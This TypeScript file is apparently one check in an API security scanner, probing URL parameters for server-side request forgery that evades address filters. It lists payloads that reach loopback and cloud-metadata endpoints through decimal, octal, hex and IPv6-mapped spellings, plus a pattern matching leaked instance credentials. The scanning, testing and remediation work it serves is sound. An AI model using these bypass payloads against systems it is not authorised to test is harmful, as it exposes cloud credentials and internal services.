/** API7: URL parameters probed with loopback and cloud-metadata address forms that naive filters miss; reported only with evidence. */
import type { Operation } from '../../openapi/operations.ts';
import type { Check, ScanContext } from '../context.ts';
import type { Exchange } from '../http.ts';
import type { CheckMeta } from '../types.ts';
import { looksLikeUrl } from '../values.ts';
import {
  actor,
  type InjectionPoint,
  injectionPoints,
  ok,
  perOperation,
  signature,
  withValue,
} from './util.ts';

const meta: CheckMeta = {
  id: 'ssrf-internal',
  title: 'Server-side request forgery to loopback or cloud metadata through an alternate address form',
  category: 'API7',
  cwe: 918,
  severity: 'high',
  severityReason:
    'The server fetches internal addresses a caller spells in decimal, octal, hex or IPv6-mapped form: cloud metadata (instance credentials) and loopback services become reachable despite a filter.',
  description:
    "A URL parameter fetched the scanner's canary through an octal or hex loopback spelling after the plain loopback URL was refused, or returned cloud-metadata content for a metadata address that a harmless unroutable address does not produce.",
  remediation:
    'Resolve and normalize the URL before checking it, then allow only listed origins with redirects off; the Rampart gateway `inspect` policy (ssrf detector, internalHosts) decodes decimal, octal, hex and IPv6-mapped forms and refuses loopback, link-local and metadata hosts (400 inject.ssrf).',
};

// RFC 5737 TEST-NET-1: never routed, so a fetch of it is the "nothing came back" baseline.
const CONTROL_URL = 'http://192.0.2.1/latest/meta-data/';

/** Cloud-metadata addresses, in the spellings filters on the dotted form miss. */
const METADATA_URLS: readonly (readonly [string, string])[] = [
  ['dotted', 'http://169.254.169.254/latest/meta-data/'],
  ['decimal', 'http://2852039166/latest/meta-data/'],
  ['octal', 'http://0251.0376.0251.0376/latest/meta-data/'],
  ['hex', 'http://0xa9fea9fe/latest/meta-data/'],
  ['ipv6-mapped', 'http://[::ffff:a9fe:a9fe]/latest/meta-data/'],
  ['gcp-name', 'http://metadata.google.internal/computeMetadata/v1/'],
];

// What cloud metadata services answer with (AWS, GCP, Azure), matched on a bounded prefix of the body.
const METADATA_CONTENT =
  /ami-id|instance-id|security-credentials|AccessKeyId|SecretAccessKey|computeMetadata|service-accounts|"compute"\s*:\s*\{|"vmId"|project-id|iam\/info/;
const MAX_MATCH = 64 * 1024;

// Loopback spellings the `ssrf` check does not try (it sends dotted, decimal, 127.1 and IPv6-mapped).
function canarySpellings(url: string, port: number): (readonly [string, string])[] {
  const path = url.slice(url.indexOf('/', 8));
  return [
    ['octal', `http://0177.0.0.1:${port}${path}`],
    ['hex', `http://0x7f000001:${port}${path}`],
    ['dotted-hex', `http://0x7f.0x0.0x0.0x1:${port}${path}`],
  ];
}

function metadataLike(ex: Exchange): boolean {
  return ok(ex) && METADATA_CONTENT.test(ex.response.body.slice(0, MAX_MATCH));
}

async function probeCanary(ctx: ScanContext, op: Operation, point: InjectionPoint): Promise<boolean> {
  const identity = actor(ctx, op);
  const plain = ctx.canary.mint();
  const plainReq = withValue(ctx, op, identity, point, plain.url);
  if (plainReq === undefined) return false;
  await ctx.send(plainReq);
  // Fetched as plain loopback: the `ssrf` check reports that; this check is about filter bypasses.
  if ((await ctx.canary.waitFor(plain.token, 500)) !== undefined) return false;
  for (const [form] of canarySpellings(plain.url, ctx.canary.port)) {
    const minted = ctx.canary.mint();
    const spelled = canarySpellings(minted.url, ctx.canary.port).find(([f]) => f === form)?.[1];
    if (spelled === undefined) continue;
    const req = withValue(ctx, op, identity, point, spelled);
    if (req === undefined) return false;
    const ex = await ctx.send(req);
    const hit = await ctx.canary.waitFor(minted.token, 500);
    if (hit === undefined) continue;
    ctx.report(meta, {
      op,
      key: `${point.name}:loopback-${form}`,
      message: `${op.method.toUpperCase()} ${op.path} refused the plain loopback URL in '${point.name}' but fetched the ${form} spelling ${spelled}: the canary saw ${hit.method} from ${hit.remoteAddress}.`,
      evidence: [ctx.evidence(ex, `the canary on 127.0.0.1:${ctx.canary.port} received the request`)],
    });
    return true;
  }
  return false;
}

async function probeMetadata(ctx: ScanContext, op: Operation, point: InjectionPoint): Promise<void> {
  const identity = actor(ctx, op);
  const controlReq = withValue(ctx, op, identity, point, CONTROL_URL);
  if (controlReq === undefined) return;
  const control = await ctx.send(controlReq);
  // A target that answers metadata-like text for anything proves nothing.
  if (metadataLike(control)) return;
  for (const [form, url] of METADATA_URLS) {
    const req = withValue(ctx, op, identity, point, url);
    if (req === undefined) return;
    const ex = await ctx.send(req);
    if (!metadataLike(ex) || signature(ex, [url]) === signature(control, [CONTROL_URL])) continue;
    ctx.report(meta, {
      op,
      key: `${point.name}:metadata-${form}`,
      message: `${op.method.toUpperCase()} ${op.path} returned cloud-metadata content for ${url} (${form} form) in '${point.name}', unlike the unroutable control ${CONTROL_URL}.`,
      evidence: [
        ctx.evidence(ex, 'metadata-like content in the response'),
        ctx.evidence(control, 'control: a harmless unroutable address'),
      ],
    });
    return;
  }
}

/** For each URL-like parameter: octal/hex loopback canary URLs, then metadata address forms against a control. */
export const ssrfInternalCheck: Check = {
  meta,
  order: 51,
  units: (plan) =>
    perOperation(
      plan,
      (op) => injectionPoints(op).some((p) => looksLikeUrl(p.name, p.schema)),
      () => 'octal/hex loopback and metadata address forms',
      { neverDelete: true },
    ),
  async run(unit, ctx) {
    const op = unit.op;
    if (op === null) return;
    for (const point of injectionPoints(op).filter((p) => looksLikeUrl(p.name, p.schema))) {
      await probeCanary(ctx, op, point);
      await probeMetadata(ctx, op, point);
    }
  },
};
